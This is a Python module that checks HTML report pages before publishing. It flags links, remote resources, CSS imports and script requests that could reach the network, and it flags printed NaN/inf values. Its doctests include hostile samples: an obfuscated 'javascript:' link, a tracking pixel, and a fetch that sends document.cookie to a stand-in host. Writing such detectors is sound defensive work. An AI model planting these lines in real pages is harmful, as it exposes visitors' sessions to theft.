"""What a published page loads and links to, and the numbers it shows: judged by meaning.

The publish check (:func:`analytics.runs.render.check_html`) used to search the page's text for
host names (``cdnjs``) and for ``nan`` as a word, so a source link on cdnjs.com or a quote
"… said Li Nan" stopped a report for good, while ``<img src="http://…">`` went through. Here:

- :func:`page_leaks` reads the tags: a link (``<a href>``, ``<area href>``) may be http(s),
  mailto, a fragment or the house CSV download (``data:text/csv;…;base64``) — never
  ``javascript:`` or another ``data:`` URL; nothing is loaded from outside the page (``src``,
  ``<link href>``, ``<object data>``, ``srcset``, ``poster``, CSS ``url()``/``@import``, a meta
  refresh, ``<base>``), and no script outside the known inlined bundle requests a URL
  (``fetch``, ``XMLHttpRequest``, ``sendBeacon``, ``WebSocket``, ``EventSource``, ``import()``,
  a Vega ``"url"`` data source).
- :func:`printed_non_number` finds ``nan``/``inf`` as a program prints them (``nan``, ``NaN``,
  ``inf``, ``Inf``, ``Infinity``, signed), outside quotations (``<q>``, ``<blockquote>``): a
  surname ``Nan`` or the abbreviation ``inf.`` is a word.

Examples
--------
>>> page_leaks('<a href="https://cdnjs.com/x">cdnjs</a><img src="data:image/png;base64,AA">')
[]
>>> page_leaks('<a href="java&#9;script:alert(1)">x</a>')
['a link with the scheme `javascript:` (<a href="javascript:alert(1)">)']
>>> printed_non_number("… said Li Nan of the bureau. Telecom inf. bulletin") is None
True
"""

from __future__ import annotations

import html
import re

__all__ = ["page_leaks", "printed_non_number"]

_SCRIPT = re.compile(r"<script\b([^>]*)>(.*?)</script\s*>", re.I | re.S)
_STYLE = re.compile(r"<style\b[^>]*>(.*?)</style\s*>", re.I | re.S)
_COMMENT = re.compile(r"<!--.*?-->", re.S)
_TAG = re.compile(r"<([a-zA-Z][\w:-]*)((?:\s+[^>]*)?)/?>", re.S)
_ATTR = re.compile(r"""([^\s=/>"']+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"']+)))?""")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]")
_LINK_OK = {"http", "https", "mailto"}
_HOUSE_CSV = "data:text/csv;charset=utf-8;base64,"
_RESOURCE_ATTRS = {"src", "data", "poster", "background", "action", "formaction", "srcset"}
_RESOURCE_HREF = {"link", "image", "use", "feimage", "base"}  # href there loads (or re-bases)
_MAY_LEAK = re.compile(
    r"""(?<![^\s"'/=>])(?:href|xlink:href|src|srcset|data|poster|background|action|formaction"""
    r"""|style|content)(?![^\s=/>"'])""",
    re.I,
)
"""An attribute named as :func:`_tag_leaks` reads: a tag without one cannot leak."""
_CSS_URL = re.compile(r"""url\(\s*['"]?\s*([^'")\s]+)|@import\s+['"]([^'"]+)""", re.I)
_REQUEST = re.compile(
    r"\b(fetch|XMLHttpRequest|sendBeacon|WebSocket|EventSource|importScripts)\s*\(?"
    r"|\bimport\s*\(|\"url\"\s*:\s*\"",
)
_QUOTED = re.compile(r"<(q|blockquote)\b[^>]*>.*?</\1\s*>", re.I | re.S)
_HIDDEN = re.compile(r"<(script|style)\b.*?</\1\s*>", re.I | re.S)
_ANY_TAG = re.compile(r"<[^>]+>")
_NON_NUMBER = re.compile(
    r"(?<![A-Za-z])[-+]?(?:nan|NaN|inf|Inf|Infinity)(?![A-Za-z])(?!\.\s*[A-Za-z])"
)


def _url(value: str) -> str:
    """An attribute's URL as a browser reads it: entities decoded, whitespace and controls out."""
    return _INVISIBLE.sub("", html.unescape(value))


def _remote(url: str) -> bool:
    """Loads from outside the page: a scheme other than ``data:``, or ``//host``."""
    scheme = _SCHEME.match(url.lower())
    return url.startswith("//") or (scheme is not None and scheme.group(1) != "data")


def _attrs(text: str) -> dict[str, str]:
    return {
        m.group(1).lower(): next((g for g in m.groups()[1:] if g is not None), "")
        for m in _ATTR.finditer(text)
    }


def _tag_leaks(name: str, attrs: dict[str, str]) -> list[str]:
    out = []
    shown = f"<{name} …>"
    for key, value in attrs.items():
        url = _url(value)
        if key == "href" and name in ("a", "area"):
            scheme = _SCHEME.match(url.lower())
            if scheme and scheme.group(1) not in _LINK_OK and not url.startswith(_HOUSE_CSV):
                out.append(
                    f'a link with the scheme `{scheme.group(1)}:` (<{name} href="{url[:60]}">)'
                )
        elif (key == "href" and name in _RESOURCE_HREF) or key in ("xlink:href",):
            if name == "base" or _remote(url):
                out.append(f"a resource loaded from outside the page ({shown} {key}={url[:80]})")
        elif key in _RESOURCE_ATTRS:
            urls = [u.split()[0] for u in url.split(",") if u.strip()] if key == "srcset" else [url]
            out += [
                f"a resource loaded from outside the page ({shown} {key}={u[:80]})"
                for u in urls
                if _remote(u)
            ]
        elif key == "style":
            out += _css_leaks(html.unescape(value), where=shown)
        elif key == "content" and attrs.get("http-equiv", "").lower() == "refresh":
            out.append(f"a page refresh to another address ({url[:80]})")
    return out


def _css_leaks(css: str, *, where: str) -> list[str]:
    return [
        f"a resource loaded from outside the page ({where} url({(a or b)[:80]}))"
        for a, b in _CSS_URL.findall(css)
        if _remote(_url(a or b))
    ]


def page_leaks(text: str) -> list[str]:
    """Every link, resource and script request through which ``text`` could reach the network.

    ``text`` is the page without the known inlined bundle (the caller takes it out).

    Examples
    --------
    >>> page_leaks('<img src="http://track.example/p.gif">')
    ['a resource loaded from outside the page (<img …> src=http://track.example/p.gif)']
    >>> page_leaks("<script>fetch('https://x.example/?d=' + document.cookie)</script>")
    ['a script that requests a URL (fetch)']
    """
    out: list[str] = []
    for attrs, body in _SCRIPT.findall(text):
        hit = _REQUEST.search(body)
        if hit:
            out.append(f"a script that requests a URL ({hit.group(1) or hit.group().strip()})")
        src = _attrs(attrs).get("src")
        if src is not None:
            out.append(f"a script loaded from a URL ({_url(src)[:80]})")
    for css in _STYLE.findall(text):
        out += _css_leaks(css, where="<style>")
    markup = _STYLE.sub(" ", _SCRIPT.sub(" ", _COMMENT.sub(" ", text)))
    for name, attrs in _TAG.findall(markup):
        if _MAY_LEAK.search(attrs):  # most tags (<td>, <span class=…>) have no such attribute
            out += _tag_leaks(name.lower(), _attrs(attrs))
    return list(dict.fromkeys(out))


def printed_non_number(text: str) -> str | None:
    """The first ``nan``/``inf`` a reader would see printed as a number, with its context.

    Scripts, styles, tags, attributes and quotations (``<q>``, ``<blockquote>``) are not read.

    Examples
    --------
    >>> printed_non_number("<p>区位熵 nan；增速 inf %</p>")
    '区位熵 nan；增速 inf %'
    >>> printed_non_number("<p>Hainan</p><q>inf</q><p>rank NaN of 31</p>")
    'Hainan rank NaN of 31'
    """
    seen = html.unescape(_ANY_TAG.sub(" ", _QUOTED.sub(" ", _HIDDEN.sub(" ", text))))
    bad = _NON_NUMBER.search(seen)
    if bad is None:
        return None
    return " ".join(seen[max(0, bad.start() - 20) : bad.end() + 20].split())
